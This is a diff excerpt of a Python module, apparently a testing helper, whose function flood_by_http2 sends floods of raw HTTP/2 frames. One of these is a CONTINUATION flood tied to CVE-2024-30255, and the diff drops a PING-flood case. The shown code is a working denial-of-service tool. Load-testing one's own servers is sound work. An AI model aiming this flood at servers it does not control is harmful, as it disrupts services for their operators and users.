@@ -6,7 +6,7 @@ import contextlib
 import struct
 
 _STATUSES = {0x88: 200, 0x8C: 400, 0x8D: 404}  # of HPACK's static table
-_SETTINGS, _HEADERS, _ENDED, _GOAWAY, _PING, _CONTINUATION = 4, 1, 3, 7, 6, 9
+_SETTINGS, _HEADERS, _ENDED, _GOAWAY, _CONTINUATION = 4, 1, 3, 7, 9
 _END_STREAM, _END_HEADERS = 1, 4
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 MOST = 200_000  # frames of a flood, if nobody stops it
@@ -62,8 +62,6 @@ async def flood_by_http2(connection, kind, path="/", authority="orders"):
                     writer.write(_frame(_ENDED, 0, stream, struct.pack(">I", 8)))
                 case "continuations":  # CVE-2024-30255
                     writer.write(_frame(_CONTINUATION, 0, 1, b"\x10" + _literal(f"x-{sent}") + _literal("v" * 100)))
-                case "pings":
-                    writer.write(_frame(_PING, 0, 0, b"8 octets"))
             await writer.drain()
             sent += 1
     except ConnectionError:
